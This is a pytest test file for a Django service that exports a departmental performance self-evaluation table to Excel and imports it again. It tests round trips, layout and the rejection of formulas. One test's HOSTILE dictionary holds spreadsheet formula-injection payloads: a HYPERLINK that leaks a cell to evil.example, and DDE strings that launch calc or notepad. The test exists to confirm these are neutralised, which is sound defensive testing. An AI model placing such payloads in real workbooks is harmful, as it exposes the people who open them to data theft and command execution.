"""The standard table as a workbook: layout, round trip field for field, no formulas, edits read back."""

import copy
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from departments.models import BudgetLine, Department
from perfeval.spreadsheets.safety import FORMULA_TRIGGERS, SpreadsheetRefused
from reports.interchange.document import DocumentError
from reports.interchange.store import report_import, report_queryset, report_to_document
from reports.models import Report, ReportEvent, ReportIndicator, ReportTask
from reports.xlsx.services import report_xlsx
from reports.xlsx.table import KEY, SHEET, document_to_xlsx, read_xlsx, xlsx_to_document

pytestmark = pytest.mark.django_db

HOSTILE = {
    "goal": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "contact": "+86 0371-68921234",
    "task": "-2+3",
    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
    "completion": "\t=1+1",
    "content": "\r=2",
    "narrative": "'=already quoted",
}


def document_of(report) -> dict:
    return report_to_document(report_queryset().get(pk=report.pk))


def without(doc: dict, *keys) -> dict:
    doc = copy.deepcopy(doc)
    for key in keys:
        doc.pop(key, None)
    return doc


def open_full(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_seed_round_trip_field_for_field(seed):
    """Must show 1: export the seed, read it back, import into another department: the same report."""
    original = document_of(seed)
    data = report_xlsx(seed)

    # The workbook alone gives back the document, every field.
    assert xlsx_to_document(data) == original

    # Imported as a new draft of another department the round covers: the same report there.
    doc = xlsx_to_document(data)
    doc["department"] = {"code": "201001", "name": "上街区教育局", "short_name": "区教育局"}
    copy_report = report_import(document=doc, source="round trip")
    assert copy_report.pk != seed.pk and copy_report.state == "draft"
    copied = document_of(copy_report)
    assert without(copied, "department") == without(original, "department")
    copy_report.refresh_from_db()
    seed.refresh_from_db()
    assert (copy_report.rule_total, copy_report.self_total, copy_report.grade) == (
        seed.rule_total,
        seed.self_total,
        seed.grade,
    )


def test_reimport_restores_a_changed_report(seed):
    """Change the stored report, import the earlier workbook: every field is as exported again."""
    original = document_of(seed)
    data = report_xlsx(seed)
    ReportIndicator.objects.filter(report=seed, level3="服务社区数量").update(actual=Decimal("39"), actual_text="39个")
    ReportTask.objects.filter(report=seed, order=0).update(name="改过的任务", budget=Decimal("1"))
    BudgetLine.objects.filter(department=seed.department, row="basic").update(executed=None, rate_text="")
    Report.objects.filter(pk=seed.pk).update(goal="改过", narrative_3="改过")
    assert document_of(seed) != original

    report = report_import(document=xlsx_to_document(data), source="re-import")
    assert report.pk == seed.pk
    assert document_of(report) == original
    assert ReportEvent.objects.filter(report=seed, kind="import").count() == 2


def test_hostile_text_round_trips_and_is_never_a_formula(seed):
    """Must show 4: no cell of an exported workbook is a formula; formula-like text is quote-prefixed."""
    Report.objects.filter(pk=seed.pk).update(
        goal=HOSTILE["goal"], contact=HOSTILE["contact"], narrative_2=HOSTILE["narrative"]
    )
    ReportTask.objects.filter(report=seed, order=0).update(
        name=HOSTILE["task"], completion=HOSTILE["completion"], content=HOSTILE["content"]
    )
    ReportIndicator.objects.filter(report=seed, level3="预算执行率").update(reason=HOSTILE["reason"])
    Department.objects.filter(pk=seed.department_id).update(name="=cmd|' /C notepad'!A0")
    original = document_of(seed)
    data = report_xlsx(seed)

    wb = open_full(data)
    risky = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r} not quote-prefixed"
                    risky += 1
    assert risky >= 8  # the hostile texts above, and the seed's own "=94.5%" / "=100%" values
    # The XML itself: no formula element anywhere, in any sheet.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    # Inert, and still exactly the text the report holds.
    back = xlsx_to_document(data)
    assert back["header"]["goal"] == HOSTILE["goal"]
    assert back["tasks"][0]["name"] == HOSTILE["task"]
    assert back["tasks"][0]["completion"] == HOSTILE["completion"]
    assert back["tasks"][0]["content"] == HOSTILE["content"]
    assert back["narrative"]["2"] == HOSTILE["narrative"]
    assert back == original


def test_layout_of_the_standard_table(seed):
    wb = open_full(report_xlsx(seed))
    assert wb.sheetnames == ["自评表", "自评报告", "perfeval"]
    assert wb["perfeval"].sheet_state == "hidden"
    ws = wb[SHEET]
    assert ws["A1"].value == "2021年度部门整体绩效自评表"
    assert ws["C2"].value.startswith("中国共产党郑州市上街区委")
    assert ws["J2"].value == Decimal("99.34") or ws["J2"].value == pytest.approx(99.34)
    assert ws["L2"].value == "优"
    assert ws.column_dimensions["M"].hidden

    keys = {ws.cell(row=r, column=KEY).value: r for r in range(1, ws.max_row + 1)}
    total = keys["budget.total"]
    assert ws.cell(row=total, column=5).value == pytest.approx(477.48)
    assert ws.cell(row=total, column=5).number_format == "#,##0.00"
    assert ws.cell(row=total, column=8).number_format == "0.00%"
    assert ws.cell(row=total, column=8).value == pytest.approx(451.06 / 477.48, abs=1e-8)
    assert ws.cell(row=total, column=11).value == pytest.approx(9.45)  # 预算执行率 self-score
    assert ws.cell(row=keys["budget.other"], column=5).value is None  # blank stays blank

    merged = {str(r) for r in ws.merged_cells.ranges}
    head = keys["indicators.head"]
    assert f"A{head + 1}:A{head + 21}" in merged  # 投入管理指标 over its 21 rows
    assert f"B{head + 1}:B{head + 5}" in merged  # 工作目标管理 over 5
    assert f"C{head + 1}:D{head + 1}" in merged  # 三级指标 spans two grid columns
    assert "A1:L1" in merged

    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == 9  # A4
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$3"
    assert ws.print_area.endswith(f"$L${ws.max_row}") or "$A$1:$L$" in ws.print_area
    assert ws.column_dimensions["A"].width > 0 and ws.column_dimensions["C"].width > ws.column_dimensions["H"].width


def test_a_person_edits_the_workbook(seed):
    """Insert a task, change figures and texts, delete an indicator: read as a person meant it."""
    wb = open_full(report_xlsx(seed))
    ws = wb[SHEET]
    keys = {}
    for r in range(1, ws.max_row + 1):
        keys.setdefault(ws.cell(row=r, column=KEY).value, r)
    first_task = keys["task"]
    # A new task inserted after the first: no row key, inside the tasks section.
    ws.insert_rows(first_task + 1)
    ws.cell(row=first_task + 1, column=1, value="新增任务")
    ws.cell(row=first_task + 1, column=5, value=12.5)
    ws.cell(row=first_task + 1, column=10, value="10")
    # Change the total's executed amount and the 服务社区数量 row; clear one reason.
    keys = {}
    for r in range(1, ws.max_row + 1):
        keys.setdefault(ws.cell(row=r, column=KEY).value, r)
    ws.cell(row=keys["budget.total"], column=7, value=460.123456)
    for r in range(keys["indicators.head"] + 1, ws.max_row + 1):
        if ws.cell(row=r, column=3).value == "服务社区数量":
            ws.cell(row=r, column=7, value="39个")
            ws.cell(row=r, column=17, value=39)
    out = io.BytesIO()
    wb.save(out)

    doc = xlsx_to_document(out.getvalue())
    assert [t["name"] for t in doc["tasks"]] == ["机关运行", "新增任务", "城乡社区服务群众专项工作", "社区发展治理工作"]
    assert doc["tasks"][1]["budget"] == "12.50" and doc["tasks"][1]["executed"] == "10.00"
    assert doc["tasks"][1]["budget_fiscal"] is None
    total = next(r for r in doc["budget"]["rows"] if r["row"] == "total")
    assert total["executed"] == "460.123456"
    row = next(r for r in doc["indicators"] if r["level3"] == "服务社区数量")
    assert (row["actual"], row["actual_text"]) == ("39", "39个")
    # Merged level cells: every row still knows its level 1 and level 2.
    assert {r["level1"] for r in doc["indicators"]} == {"投入管理指标", "产出指标", "效益指标"}
    assert all(r["level2"] for r in doc["indicators"])


def test_bad_cells_are_named_by_sheet_row_and_column(seed):
    wb = open_full(report_xlsx(seed))
    ws = wb[SHEET]
    keys = {}
    for r in range(1, ws.max_row + 1):
        keys.setdefault(ws.cell(row=r, column=KEY).value, r)
    task = keys["task"]
    ws.cell(row=task, column=5, value="十三万")
    ws.cell(row=keys["indicators.head"] + 2, column=14, value="半定量")
    ws.cell(row=keys["indicators.head"] + 3, column=3).value = None
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(DocumentError) as info:
        xlsx_to_document(out.getvalue())
    errors = "\n".join(info.value.errors)
    assert f"自评表 第 {task} 行 E 列（预算资金）：“十三万”不是数字" in errors
    assert f"自评表 第 {keys['indicators.head'] + 2} 行 N 列（性质）：“半定量”不是可选值" in errors
    assert f"自评表 第 {keys['indicators.head'] + 3} 行 C 列（三级指标）：三级指标不能为空" in errors


def test_a_blank_weight_is_read_and_scored_as_an_error_not_refused(seed):
    wb = open_full(report_xlsx(seed))
    ws = wb[SHEET]
    head = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=KEY).value == "indicators.head")
    ws.cell(row=head + 1, column=8).value = None  # 分值 of the first indicator removed
    out = io.BytesIO()
    wb.save(out)
    from indicators import engine
    from reports.interchange.document import to_engine_input, validate

    doc = validate(read_xlsx(out.getvalue()).document)
    assert "weight" not in doc["indicators"][0]
    found = {(f.code, f.where) for f in engine.score_report(to_engine_input(doc)).findings if f.severity == "error"}
    assert ("weight.missing", "indicators[0]") in found and ("template.weights", "template.投入管理指标") in found


def test_formula_typed_into_an_input_cell_is_refused(seed):
    wb = open_full(report_xlsx(seed))
    ws = wb[SHEET]
    total = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=KEY).value == "budget.total")
    ws.cell(row=total, column=7, value="=E9*0.9")
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(SpreadsheetRefused) as info:
        xlsx_to_document(out.getvalue())
    assert f"G{total} 单元格是公式" in info.value.errors[0]


def test_wrong_layout_is_refused():
    plain = openpyxl.Workbook()
    plain.active.append(["部门", "得分"])
    out = io.BytesIO()
    plain.save(out)
    with pytest.raises(SpreadsheetRefused, match="不是 perfeval 导出的自评表"):
        xlsx_to_document(out.getvalue())


def test_a_removed_budget_row_is_a_broken_layout(seed):
    wb = open_full(report_xlsx(seed))
    ws = wb[SHEET]
    other = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=KEY).value == "budget.other")
    ws.delete_rows(other)
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(DocumentError) as info:
        xlsx_to_document(out.getvalue())
    assert any("缺少“（2）其他资金”行" in e for e in info.value.errors)


def test_document_without_database_round_trips():
    """The module needs no database: a document in, bytes out, the same document back."""
    from reports.demo.build import seed_document
    from reports.interchange.document import normalize

    doc = seed_document()  # validated: nulls are absent keys
    back = normalize(xlsx_to_document(document_to_xlsx(doc)))
    assert back["indicators"] == doc["indicators"]
    assert back["tasks"] == doc["tasks"]
    assert back["narrative"] == doc["narrative"]
    assert back["header"] == doc["header"]


def test_a_zero_execution_weight_and_unfixed_rules_round_trip():
    """A tree without a separate 预算执行率: its 0 weight and the rule not fixing it come back as written."""
    from reports.demo.build import seed_document  # reason: as the round trip above, no database needed

    doc = seed_document()
    doc["budget"]["execution_weight"] = "0"
    doc["rules"]["fixed_execution_weight"] = False
    back = xlsx_to_document(document_to_xlsx(doc))
    assert back["budget"]["execution_weight"] == "0"
    assert back["rules"]["fixed_execution_weight"] is False
